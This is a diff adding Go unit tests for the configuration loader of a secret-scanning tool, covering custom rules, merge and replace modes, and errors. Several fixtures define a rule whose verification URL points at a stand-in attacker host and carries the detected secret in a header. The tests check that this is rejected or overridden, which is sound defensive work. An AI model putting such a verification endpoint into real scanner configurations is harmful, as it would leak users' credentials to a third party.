@@ -0,0 +1,177 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/TALLHAMADOU/goleaks/patterns"
+)
+
+// loadTOML écrit une configuration dans un dossier temporaire et la charge
+func loadTOML(t *testing.T, content string) *Config {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), ".goleaks.toml")
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cfg
+}
+
+func findPattern(t *testing.T, list []patterns.Pattern, id string) patterns.Pattern {
+	t.Helper()
+	for _, p := range list {
+		if p.ID == id {
+			return p
+		}
+	}
+	t.Fatalf("règle %s absente", id)
+	return patterns.Pattern{}
+}
+
+const customVerifyRule = `
+[[rules]]
+id = "acme-live"
+service = "Acme"
+regex = '\bacme_live_[a-zA-Z0-9]{24}\b'
+high_risk = true
+verify_url = "https://attacker.example/collect"
+verify_header = "X-Leak: {secret}"
+`
+
+// Une configuration chargée automatiquement ne peut pas déclarer de point de vérification
+func TestCustomVerifyRejected(t *testing.T) {
+	cfg := loadTOML(t, "allow_custom_verify = true\n"+customVerifyRule)
+	if _, err := cfg.Patterns(); err == nil || !strings.Contains(err.Error(), "acme-live") {
+		t.Fatalf("erreur %v, attendu un refus de verify_url", err)
+	}
+}
+
+func TestCustomVerifyAllowed(t *testing.T) {
+	cfg := loadTOML(t, customVerifyRule)
+	cfg.AllowCustomVerify = true
+	list, err := cfg.Patterns()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p := findPattern(t, list, "acme-live"); p.VerifyURL != "https://attacker.example/collect" {
+		t.Errorf("verify_url = %q", p.VerifyURL)
+	}
+}
+
+// Une règle qui remplace une règle intégrée garde son point de vérification, même autorisée
+func TestOverrideKeepsBuiltinVerify(t *testing.T) {
+	builtin := findPattern(t, patterns.GetPatterns(), "openai-api-key")
+	for _, mode := range []string{patterns.ModeMerge, patterns.ModeReplace} {
+		cfg := loadTOML(t, `rules_mode = "`+mode+`"
+[[rules]]
+id = "openai-api-key"
+service = "OpenAI"
+regex = '\bsk-[a-zA-Z0-9]{48}\b'
+high_risk = true
+verify_url = "https://attacker.example/collect"
+verify_header = "X-Leak: {secret}"
+`)
+		cfg.AllowCustomVerify = true
+		list, err := cfg.Patterns()
+		if err != nil {
+			t.Fatal(err)
+		}
+		p := findPattern(t, list, "openai-api-key")
+		if p.VerifyURL != builtin.VerifyURL || p.VerifyHeader != builtin.VerifyHeader {
+			t.Errorf("mode %s: point de vérification %q %q, attendu %q %q", mode, p.VerifyURL, p.VerifyHeader, builtin.VerifyURL, builtin.VerifyHeader)
+		}
+	}
+}
+
+const acmeRule = `
+[[rules]]
+id = "acme-key"
+service = "Acme"
+regex = '\bacme_[a-z0-9]{24}\b'
+`
+
+// Les règles personnalisées s'ajoutent aux règles intégrées (merge) ou les remplacent (replace)
+func TestPatternsRulesMode(t *testing.T) {
+	builtins := len(patterns.GetPatterns())
+	tests := []struct {
+		name   string
+		config string
+		want   int
+	}{
+		{"défaut", acmeRule, builtins + 1},
+		{"merge", `rules_mode = "merge"` + acmeRule, builtins + 1},
+		{"replace", `rules_mode = "replace"` + acmeRule, 1},
+	}
+	for _, tt := range tests {
+		list, err := loadTOML(t, tt.config).Patterns()
+		if err != nil {
+			t.Fatalf("%s: %v", tt.name, err)
+		}
+		if len(list) != tt.want {
+			t.Errorf("%s: %d règles, attendu %d", tt.name, len(list), tt.want)
+		}
+	}
+
+	// Une règle de même identifiant remplace la règle intégrée
+	list, err := loadTOML(t, "[[rules]]\nid = \"aws-access-key-id\"\nservice = \"AWS\"\nregex = 'AKIA'\nseverity = \"low\"\n").Patterns()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(list) != builtins {
+		t.Errorf("%d règles, attendu %d", len(list), builtins)
+	}
+	if p := findPattern(t, list, "aws-access-key-id"); p.Severity != patterns.SeverityLow {
+		t.Errorf("règle intégrée non remplacée: sévérité %s", p.Severity)
+	}
+}
+
+// Un fichier de règles YAML référencé par la configuration est résolu depuis son dossier
+// et combiné avec les règles déclarées dans la configuration
+func TestPatternsRulesFile(t *testing.T) {
+	dir := t.TempDir()
+	rules := "rules:\n  - id: yaml-key\n    service: Yaml\n    regex: '\\byk_[a-z0-9]{24}\\b'\n"
+	if err := os.WriteFile(filepath.Join(dir, "rules.yaml"), []byte(rules), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, ".goleaks.yaml")
+	content := "rules_file: rules.yaml\nrules_mode: replace\nrules:\n  - id: inline-key\n    service: Inline\n    regex: '\\bik_[a-z0-9]{24}\\b'\n"
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	list, err := cfg.Patterns()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(list) != 2 || list[0].ID != "yaml-key" || list[1].ID != "inline-key" {
+		t.Errorf("règles %+v, attendu yaml-key puis inline-key", list)
+	}
+}
+
+func TestPatternsErrors(t *testing.T) {
+	tests := []struct {
+		name   string
+		config string
+		want   string
+	}{
+		{"regex", "[[rules]]\nid = \"acme-key\"\nservice = \"Acme\"\nregex = '('\n", "configuration: règle #1 (acme-key): regex invalide"},
+		{"mode", `rules_mode = "append"` + acmeRule, "mode de règles invalide"},
+		{"replace sans règle", `rules_mode = "replace"`, "sans aucune règle personnalisée"},
+		{"fichier absent", `rules_file = "absent.toml"`, "lecture du fichier de règles"},
+	}
+	for _, tt := range tests {
+		_, err := loadTOML(t, tt.config).Patterns()
+		if err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("%s: erreur %v, attendu %q", tt.name, err, tt.want)
+		}
+	}
+}